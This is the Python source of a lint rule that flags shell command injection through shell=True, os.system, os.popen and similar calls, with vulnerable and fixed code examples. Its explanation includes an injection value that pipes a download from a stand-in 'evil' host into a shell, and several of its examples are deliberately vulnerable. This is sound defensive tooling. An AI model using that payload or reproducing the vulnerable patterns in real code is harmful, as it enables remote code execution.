"""Commands that a shell interprets."""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from pratique.lint.api import (
    UNKNOWN,
    Argument,
    Bad,
    Call,
    Checks,
    Confidence,
    Constant,
    Good,
    Repair,
    Report,
    Rule,
    Severity,
    Triggers,
    calls,
    command_lines,
    string_parts,
)

RULE = Rule(
    name="subprocess-shell-true",
    summary="a command line is given to a shell",
    help='Pass a list and no shell: subprocess.run(["ping", "-c", "1", host], check=True).',
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=(78,),
    what=(
        "subprocess functions with shell=True, subprocess.getoutput, os.system, os.popen and "
        "asyncio.create_subprocess_shell, when the command is not a constant. Values quoted by shlex.quote or "
        "converted to numbers count as harmless. A constant command that needs no shell is reported with low "
        "severity; other constants are shown in the strict profile."
    ),
    why=(
        "A shell takes ;, |, $( ) and newlines in a value for syntax. A file name or a host name such as `x; curl "
        "evil | sh` runs whatever it says, with the rights of the program."
    ),
    assistants=(
        "Commands are known as the lines typed into a terminal, and an f-string with shell=True is the shortest "
        "way to run one."
    ),
    remedy=(
        "The fix splits the line into a list of arguments and drops the shell. Each value then is exactly one "
        "argument, and must be text or a path; a missing program raises FileNotFoundError where the shell would "
        "return 127. Lines that use pipes, redirections, variables or patterns are for people to rewrite."
    ),
    prompt="Run programs with subprocess.run and a list of arguments, never through a shell.",
    references=(
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://docs.python.org/3/library/shlex.html#shlex.quote",
    ),
    foreign=("B602", "B604", "B605", "S602", "S604", "S605"),
    bad=(
        Bad(
            """\
import subprocess


def ping(host):
    subprocess.run(f"ping -c 1 {host}", shell=True, check=True)  # once
""",
            why="an f-string",
            fixed="""\
import subprocess


def ping(host):
    subprocess.run(["ping", "-c", "1", host], check=True)  # once
""",
        ),
        Bad(
            """\
import subprocess


def run(command):
    return subprocess.check_output(command, shell=True)
""",
            why="a command from elsewhere",
        ),
        Bad(
            """\
import subprocess as sp

sp.call(
    "ls -l /tmp",
    shell=True,  # habit
)
""",
            why="a constant that needs no shell",
            fixed="""\
import subprocess as sp

sp.call(
    ["ls", "-l", "/tmp"],  # habit
)
""",
        ),
        Bad(
            """\
import os


def remove(path):
    os.system("rm -rf " + path)
""",
            why="os.system with a sum",
            fixed="""\
import subprocess


def remove(path):
    subprocess.call(["rm", "-rf", path])
""",
        ),
        Bad(
            """\
from subprocess import Popen

options = {"shell": True}


def start(name):
    return Popen("server --name=%s" % name, **options)
""",
            why="the shell comes out of a dict of options",
        ),
        Bad(
            """\
from subprocess import Popen


def start(name):
    return Popen("server --name=%s" % name, shell=True)
""",
            why="the % operator, the value inside a word",
            fixed="""\
from subprocess import Popen


def start(name):
    return Popen(["server", f"--name={name}"])
""",
        ),
        Bad(
            """\
import subprocess


def show(path):
    subprocess.run("cat '{}'".format(path), shell=True)
""",
            why="str.format, quoted by hand",
            fixed="""\
import subprocess


def show(path):
    subprocess.run(["cat", path])
""",
        ),
        Bad(
            """\
import subprocess


def count(path):
    subprocess.run(f"cat {path} | wc -l", shell=True)
""",
            why="a pipe, which only people can rewrite",
        ),
        Bad(
            """\
import asyncio


async def clone(url):
    return await asyncio.create_subprocess_shell(f"git clone {url}")
""",
            why="asyncio",
            fixed="""\
import asyncio


async def clone(url):
    return await asyncio.create_subprocess_exec("git", "clone", url)
""",
        ),
        Bad(
            """\
import os


def read(name):
    return os.popen(f"git log {name}").read()
""",
            why="os.popen",
        ),
        Bad(
            """\
import subprocess


def ship(files):
    subprocess.run(["tar", "-c", *files], shell=True)
""",
            why="a list, of which the shell takes only the first element",
            fixed="""\
import subprocess


def ship(files):
    subprocess.run(["tar", "-c", *files])
""",
        ),
        Bad(
            """\
import subprocess


def look(host):
    subprocess.run(["ping -c 1 " + host], shell=True)
""",
            why="a list whose first element is a whole command line",
        ),
        Bad(
            """\
import os


def page(path):
    os.system("more" if path is None else "more " + path)
""",
            why="one of two, of which one holds a value",
        ),
        Bad(
            """\
import os

os.system("ls *.txt | wc -l")
""",
            why="a constant that needs its shell, for the strict",
        ),
    ),
    good=(
        Good(
            """\
import subprocess

subprocess.run(["ls", "-l"], check=True)
""",
            why="a list",
        ),
        Good(
            """\
import subprocess

subprocess.run(["ls"], shell=False)
""",
            why="the shell turned off",
        ),
        Good(
            """\
import shlex
import subprocess


def show(path):
    subprocess.run(f"cat {shlex.quote(path)} | wc -l", shell=True)
""",
            why="every value quoted",
        ),
        Good(
            """\
import os
import subprocess


def run(arguments):
    subprocess.run(arguments, shell=os.name == "nt")
""",
            why="a shell on one platform only",
        ),
        Good(
            """\
import subprocess


def run(command, shell):
    subprocess.run(command, shell=shell)
""",
            why="the caller decides",
        ),
        Good(
            """\
def run(command, shell):
    return command


run(input(), shell=True)
""",
            why="another function",
        ),
        Good(
            """\
import subprocess


def kill(process):
    subprocess.run(f"kill -9 {int(process)} && true", shell=True)
""",
            why="a number",
        ),
        Good(
            """\
import subprocess


def rest(seconds):
    subprocess.run("sleep %d && true" % seconds, shell=True)
""",
            why="a conversion that takes numbers only",
        ),
        Good(
            """\
import os

os.system("cls" if os.name == "nt" else "clear")
""",
            why="one of two constants",
        ),
    ),
)


def check_call(call: Call) -> Iterator[Report]:
    command = command_lines.shell_command(call)
    if command is None:
        return
    if isinstance(command.value.literal.node, (cst.List, cst.Tuple)):
        yield from _list(call, command)
    elif command.constant is not UNKNOWN:
        yield from _constant(call, command)
    elif not command_lines.is_quoted(command.value):
        parts = string_parts(command.value)
        confidence = Confidence.MEDIUM if parts is None else Confidence.HIGH
        repair = command_lines.listed(call, command, parts) if parts is not None else None
        yield Report(call.node, _message(call), repair=repair, confidence=confidence)


def _message(call: Call) -> str:
    written = "shell=True" if call.names & command_lines.RUNNERS else f"{call.method}()"
    return f"{written} lets a shell interpret a command line that holds values from elsewhere"


def _list(call: Call, command: Argument) -> Iterator[Report]:
    """The shell runs the first element; the others are its own parameters."""
    first = command.value.elements[0] if command.value.elements else None
    if first is not None and string_parts(first) is not None and not command_lines.is_quoted(first):
        yield Report(call.node, _message(call))
    elif call.names & command_lines.RUNNERS:
        message = "with shell=True only the first element of the list is the command, the others never reach it"
        changes = command_lines.without_shell(call) if first is not None and _is_one_word(first.constant) else ()
        repair = Repair("drop the shell", changes, safe=False, reason=command_lines.REASON) if changes else None
        yield Report(call.node, message, repair=repair, severity=Severity.LOW)


def _constant(call: Call, command: Argument) -> Iterator[Report]:
    """No one can put anything into it; a shell that is not needed is still better not started."""
    if not isinstance(command.constant, str):
        return
    repair = command_lines.listed(call, command, [command.constant])
    message = "a shell is started for a constant command"
    needless = repair is not None and bool(call.names & command_lines.RUNNERS)
    yield Report(call.node, message, repair=repair, severity=Severity.LOW, profile="" if needless else "strict")


def _is_one_word(program: Constant) -> bool:
    """Whether a list that begins so means the same without its shell: the name of a program alone."""
    return not isinstance(program, str) or not (command_lines.SYNTAX.search(program) or any(map(str.isspace, program)))


TRIGGERS: Triggers = (
    calls(
        *sorted(command_lines.RUNNERS), given=("shell@8=bool", "shell@8=int", "shell@8=str"), unless=("shell@8=False",)
    ),
    calls(*sorted(command_lines.ALWAYS)),
)
CHECKS: Checks = {Call: check_call}
